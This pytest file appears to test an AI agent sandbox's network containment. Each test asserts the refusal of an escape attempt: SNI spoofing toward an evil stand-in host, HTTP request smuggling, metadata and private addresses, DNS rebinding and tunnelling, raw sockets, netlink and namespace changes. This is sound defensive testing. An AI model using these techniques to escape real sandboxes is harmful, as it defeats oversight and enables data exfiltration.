"""CONTAINMENT C: ways out of a network of the sandbox's own (`net: allow`)."""

import json
import socket
from pathlib import Path
from secrets import token_hex

import pytest

from tests.containment.network.attempts import API, EVIL, OPTIONS, attempt
from tests.containment.rows import row
from tests.containment.support.world import Machine
from tests.harness.inside_python import InsidePython
from tests.harness.internet import CLIENT, LOCAL_PORT, PORT, in_internet
from tests.harness.program import PYTHON, wait_until

GET = b"GET / HTTP/1.1\r\nHost: %b\r\n\r\n"


def test_the_attempts_would_succeed_where_a_rule_allows_them(allowed: InsidePython) -> None:
    found = attempt(allowed, f"result = [ask({API!r}, 443), ask({API!r}, 80), ask({API!r}, {PORT})]")
    assert all("OUT" in answer for answer in found)


@row(
    "use the address of an allowed name for another name in TLS, also in capitals, in small records, in small pieces",
    "`net: allow`: the ClientHello is read whole, by OpenSSL, before a byte is forwarded; its name must be the one connected to",
)
def test_c60_tls_for_another_name_is_refused(allowed: InsidePython) -> None:
    code = f"""
def cut(name, record, piece):
    outgoing, context = ssl.MemoryBIO(), ssl.create_default_context()
    try:
        context.wrap_bio(ssl.MemoryBIO(), outgoing, server_hostname=name).do_handshake()
    except ssl.SSLWantReadError:
        pass
    data = outgoing.read()
    body = data[5:]
    parts = [body[n:n + record] for n in range(0, len(body), record)]
    data = b"".join(data[:3] + struct.pack(">H", len(part)) + part for part in parts)
    with socket.create_connection(({API!r}, 443), 10) as one:
        one.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
        for n in range(0, len(data), piece):
            one.sendall(data[n:n + piece])
        return one.recv(3).hex()
result = [ask({API!r}, 443, tls=name) for name in ({EVIL!r}, {EVIL.upper()!r}, "x.{API}")]
result += [cut({EVIL!r}, record, piece) for record, piece in ((1 << 14, 1 << 14), (7, 1 << 14), (1 << 14, 50))]
result += [ask({EVIL!r}, 443, tls={API!r})]
"""
    found = attempt(allowed, code)
    assert found == ["TLSV1_ALERT_ACCESS_DENIED"] * 3 + ["150301"] * 3 + ["TLSV1_ALERT_ACCESS_DENIED"]


@row(
    "ask an allowed server for another host in HTTP: at once, in a later request, in a pipeline, hidden by ambiguous framing",
    "`net: allow`: each request is parsed, and held back until its only Host is the name connected to; ambiguity is refused",
)
def test_c61_http_for_another_host_is_refused(allowed: InsidePython) -> None:
    good, evil = GET % API.encode(), GET % EVIL.encode()
    smuggled = b"POST / HTTP/1.1\r\nHost: %b\r\nContent-Length: %d\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" % (
        API.encode(),
        len(evil),
    )
    pieces = [[evil], [good, evil], [good + evil], [smuggled + evil], [evil.replace(b"\r\n", b"\n")]]
    pieces += [[b"GET http://%b/ HTTP/1.1\r\nHost: %b\r\n\r\n" % (EVIL.encode(), API.encode())]]
    pieces += [[b"CONNECT %b:443 HTTP/1.1\r\nHost: %b\r\n\r\n" % (EVIL.encode(), API.encode())]]
    code = f"""
def talk(pieces):
    with socket.create_connection(({API!r}, 80), 10) as one:
        for piece in pieces:
            one.sendall(piece)
            answer = one.recv(4000).decode()
        return answer
result = [talk(pieces) for pieces in {pieces!r}]
"""
    found = attempt(allowed, code)
    assert [answer.split(" ")[1] for answer in found] == ["403"] * len(pieces)
    assert not any(f"host={EVIL}" in answer or "OUT GET http" in answer for answer in found)


LITERALS = ["93.184.215.14", "1570297614", "0x5db8d70e", "93.12113678", "::ffff:93.184.215.14", "2606:2800:21f::16", "10.9.8.7"]
LITERALS += [
    "169.254.169.254",
    "198.18.0.1",
    "28.0.200.1",
    "fd00:ad::1",
    "64:ff9b::5db8:d70e",
    "2002:5db8:d70e::1",
    "100.100.100.200",
]


@row(
    "connect to an address instead of a name, in every spelling, to the gateway's own ports, to an unused stand-in address, "
    "to a private address in a wide network that a rule names",
    "`net: allow`: only rules about addresses allow addresses, and private ones only if the rule is within one private network; "
    "the gateway's own are always refused",
)
def test_c62_addresses_that_no_rule_names_are_refused(allowed: InsidePython) -> None:
    code = f"result = ask_all(*((one, port, b'') for port in (1, 80, {PORT}) for one in {LITERALS}))"
    assert set(attempt(allowed, code)) == {"ECONNRESET"}


@row(
    "use an allowed name that leads to a loopback, metadata or private address, also next to a public one (DNS rebinding)",
    "`net: allow`: the gateway resolves names and checks every address; it connects to exactly what it checked",
)
def test_c63_names_lead_to_public_addresses_only(allowed: InsidePython) -> None:
    names = ("rebound", "meta", "loop", "corp")
    found = attempt(allowed, f"result = ask_all(*((f'{{name}}.example.org', {PORT}) for name in {names}))")
    assert found == ["ECONNRESET"] * len(names)


@row(
    "send anything that is neither TCP nor DNS: UDP, QUIC, ICMP, SCTP, raw packets, also from the gateway's address",
    "`net: allow`: nf_tables rules refuse it at once; raw sockets need a capability; the namespace has no other interface",
)
def test_c64_other_protocols_are_refused(allowed: InsidePython) -> None:
    code = """
def send(*kind, source="", address="93.184.215.14", port=443):
    try:
        with socket.socket(*kind) as one:
            one.settimeout(5)
            if source:
                one.bind((source, 0))
            one.connect((address, port))
            for _ in range(3):
                one.send(b"x")
            return "sent"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
datagram, raw = socket.SOCK_DGRAM, socket.SOCK_RAW
result = [
    send(socket.AF_INET, datagram), send(socket.AF_INET6, datagram, address="2606:2800:21f::16"),
    send(socket.AF_INET, datagram, 1), send(socket.AF_INET, raw, 1), send(socket.AF_INET, raw, 255),
    send(socket.AF_PACKET, raw, 3), send(socket.AF_INET, socket.SOCK_STREAM, 132),
]
"""
    found = attempt(allowed, code)
    assert "sent" not in found
    assert found[:2] == ["EPERM", "EPERM"]


@row(
    "send data in DNS queries (a tunnel), or ask for records that bring addresses or keys",
    "`net: allow`: the gateway answers all queries itself; a name has a stand-in address and nothing else; the table is bounded",
)
def test_c65_dns_queries_do_not_leave(allowed: InsidePython) -> None:
    code = f"""
def query(name, kind, server="8.8.8.8"):
    data = struct.pack(">HHHHHH", 9, 0x100, 1, 0, 0, 0)
    data += b"".join(bytes((len(part),)) + part.encode() for part in name.split(".")) + struct.pack(">BHH", 0, kind, 1)
    with socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM) as one:
        one.settimeout(10)
        one.sendto(data, (server, 53))
        return one.recv(4096)[7]
result = [query({API!r}, 1, server) for server in ("8.8.8.8", "127.0.0.53", "2001:4860:4860::8888", "93.184.215.14")]
result += [query({API!r}, kind) for kind in (28, 16, 65, 64, 5, 15, 255)]
begin = time.monotonic()
for number in range(2000):
    query(f"{{number:050}}.tunnel.example.net", 1)
result += [time.monotonic() - begin]
"""
    *answers, seconds = attempt(allowed, code)
    assert answers == [1, 1, 1, 1, *[0] * 7]
    assert seconds < 20


CHANGE = """
import ctypes, os
def change(kind, flags, body, protocol=0):
    try:
        with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as one:
            one.settimeout(10)
            one.sendto(struct.pack("=IHHII", 16 + len(body), kind, 5 | flags, 1, 0) + body, (0, 0))
            number = -struct.unpack_from("=i", one.recv(4096), 16)[0]
            return errno.errorcode[number] if number else "changed"
    except OSError as error:
        return errno.errorcode.get(error.errno, str(error))
def tries():
    lo = socket.if_nametoindex("lo")
    return [
        change(25, 0, struct.pack("=BBBBBBBBI", 2, 0, 0, 0, 254, 4, 253, 1, 0)),
        change(21, 0, struct.pack("=BBBBI", 2, 32, 0, 0, lo) + struct.pack("=HH4s", 8, 2, bytes((198, 18, 0, 1)))),
        change(16, 0, struct.pack("=BBHiII", 0, 0, 0, lo, 0, 1)),
        change(0xA02, 0, struct.pack(">BBH", 1, 0, 0), 12),
    ]
def bound(*address):
    try:
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as one:
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
            one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEPORT, 1)
            one.bind(address)
            return "bound"
    except OSError as error:
        return errno.errorcode[error.errno]
network = os.open("/proc/self/ns/net", os.O_RDONLY)
result = [*tries(), bound("198.18.0.1", 53), bound("0.0.0.0", 53)]
reader, writer = os.pipe()
if os.fork() == 0:
    libc = ctypes.CDLL(None, use_errno=True)
    own = libc.unshare(0x10000000)
    entered = libc.setns(network, 0x40000000)
    os.write(writer, json.dumps([tries(), entered]).encode())
    os._exit(0)
result += [json.loads(os.read(reader, 4096))]
"""


@row(
    "change routes, addresses or rules, or listen on the gateway's ports, also as root of a nested user namespace",
    "`net: allow`: the network namespace belongs to a user namespace in which the agent has no capability",
)
def test_c66_the_network_cannot_be_changed_from_inside(allowed: InsidePython) -> None:
    *found, (nested, entered) = attempt(allowed, CHANGE)
    assert "changed" not in (*found, *nested)
    assert found[4:] == ["EACCES", "EACCES"]
    assert entered == -1


@row(
    "connect to servers on the host's loopback or to its abstract sockets from a network of the sandbox's own",
    "`net: allow`: the sandbox has a loopback of its own; only ports that a localhost rule names lead to the host's",
)
def test_c67_the_hosts_loopback_is_not_reachable(allowed: InsidePython) -> None:
    name = f"agent-dev-test-{token_hex(6)}"
    with socket.socket(socket.AF_UNIX) as server:
        server.bind(f"\0{name}")
        server.listen()
        code = f"""
result = [ask(host, port, b"") for host in ("127.0.0.1", "localhost", "127.9.9.9", "0.0.0.0") for port in ({LOCAL_PORT}, 80)]
try:
    socket.socket(socket.AF_UNIX).connect("\\0{name}")
    result.append("connected")
except OSError as error:
    result.append(errno.errorcode[error.errno])
"""
        *ports, abstract = attempt(allowed, code)
    assert set(ports) == {"ECONNREFUSED"}
    assert abstract != "connected"


@pytest.mark.parametrize("rule", ["files.example.org", "api.example.org"])
@row(
    "use the network of another session through a socket in a shared agent home",
    "sessions share a home only if their networks have the same rules: the second is refused",
)
def test_c68_sessions_with_different_rules_share_no_home(world: Machine, rule: str) -> None:
    words = ("--net", "allow", "--allow", "api.example.org", "--no-merge", "--", PYTHON, "-c")
    place = Path(world.program.agent_home / "ready")
    wait = "import os, sys; open(os.path.expanduser('~/ready'), 'w').close(); sys.stdin.read()"
    with world.program.start(*words, wait) as process:
        wait_until(place.exists, "it runs")
        done = world.program("--net", "allow", "--allow", rule, "--no-merge", "--", "true")
        assert done.returncode == (0 if rule == "api.example.org" else 125), done.stderr
        process.communicate(timeout=60)


@row(
    "reach non-public addresses with `net: learn` or `ask`, or answer its own question",
    "both check every address as a rule would, before a question is asked; questions and answers are files outside the sandbox",
)
def test_c69_learn_and_ask_open_nothing_that_is_not_public(world: Machine) -> None:
    code = f"""
import os
names = [f"{{name}}.example.org" for name in ("rebound", "meta", "loop", "corp")]
refused = ask_all(*((one, {PORT}, b"") for one in (*names, "10.9.8.7", "169.254.169.254", "::ffff:10.9.8.7", "28.9.9.9")))
public = sys.argv[1:] and ask("files.example.org", {PORT})
print(json.dumps([*refused, os.path.exists({str(world.program.state)!r}), public]))
"""
    for net, more in (("learn", ["public"]), ("ask", [])):
        words = ("--net", net, *OPTIONS[2:], "--", PYTHON, "-I", "-c", CLIENT + code, *more)
        done = world.program(*words, before=in_internet())
        *refused, is_shown, public = json.loads(done.stdout)
        assert (refused, is_shown) == (["ECONNRESET"] * 8, False)
        assert "OUT" in public if more else not public
